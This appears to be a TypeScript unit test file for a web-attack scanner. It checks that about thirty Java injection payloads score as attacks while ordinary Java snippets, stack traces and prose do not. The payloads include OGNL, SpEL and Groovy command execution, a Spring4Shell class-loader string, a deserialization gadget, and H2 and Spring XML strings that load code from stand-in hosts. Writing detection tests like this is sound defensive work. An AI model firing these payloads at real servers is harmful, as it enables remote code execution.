// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks and texts are written like that
import { describe, expect, it } from 'vitest'
import { familyTotalOf, totalOf } from './scan-score.ts'

const attacks: readonly string[] = [
  'with(new JavaImporter(java.io)){new File("/srv").list()}',
  'new FileSystemXmlApplicationContext("http://203.0.113.5/a.xml")',
  'Jenkins.instance.securityRealm.allUsers',
  'type=DiagnosticCommand/compilerDirectivesAdd',
  'ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL',
  'solr.VelocityResponseWriter',
  'com.example.admin.util.RuntimeUtil',
  '"touch /srv/x".execute()',
  '${x.class.forName("java.lang.Runtime")}',
  '["sh","-c","id"].execute()',
  'Runtime.getRuntime().exec("id")',
  'com.caucho.naming.QName',
  "${T(java.lang.Runtime).getRuntime().exec('id')}",
  'new java.lang.ProcessBuilder("id").start()',
  "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
  '%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{"id"})).start()}',
  "redirect:${#context['xwork.MethodAccessor.denyMethodExecution']=false}",
  'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x',
  "''.getClass().forName('java.lang.Runtime')",
  'javax.script.ScriptEngineManager',
  '"cat /x".execute().text',
  'org.apache.commons.collections.functors.InvokerTransformer',
  'jdbc:h2:mem:x;INIT=RUNSCRIPT FROM http://x',
  '<bean id="a" class="java.lang.ProcessBuilder" init-method="start">',
  '"whoami".execute()',
  '(1).TYPE.forName("java.lang.Runtime")',
  '@ASTTest(value={assert 1})',
  'Java.type("java.lang.System")',
  '(.exec (Runtime/getRuntime) "id")',
]

const harmless: readonly string[] = [
  'DocumentBuilderFactory f = DocumentBuilderFactory.newInstance(); f.setFeature(NAME, true);',
  'Class.forName("com.mysql.cj.jdbc.Driver")',
  "org.springframework.beans.factory.BeanCreationException: Error creating bean with name 'x'",
  'java.lang.String',
  'java.lang.NullPointerException at com.foo.Bar.baz(Bar.java:12)',
  'java.util.List',
  'I love Java and JavaScript',
  'The process is running; the runtime is fast',
  'runtime error at startup',
  '<groupId>org.apache.maven</groupId>',
  'session.request.context',
  '#context menu',
  'Charset.forName("UTF-8")',
  'cursor.execute()',
  '{"type": "java"}',
  'new URL("https://example.org/x").searchParams.get("a")',
]

describe('Java code and expressions', () => {
  it.each([
    'at org.apache.catalina.core.StandardWrapperValve.invoke(StandardWrapperValve.java:199)',
    '<dependency><groupId>org.apache.struts</groupId><artifactId>struts2-core</artifactId></dependency>',
  ])('of traces and builds are not refused: %s', (value) => {
    expect(totalOf(value)).toBeLessThan(80)
  })

  it.each(attacks)('are denied: %s', (value) => {
    expect(familyTotalOf('java', value)).toBeGreaterThanOrEqual(80)
  })

  it.each(harmless)('do not look like: %s', (value) => {
    expect(totalOf(value)).toBeLessThan(40)
  })
})
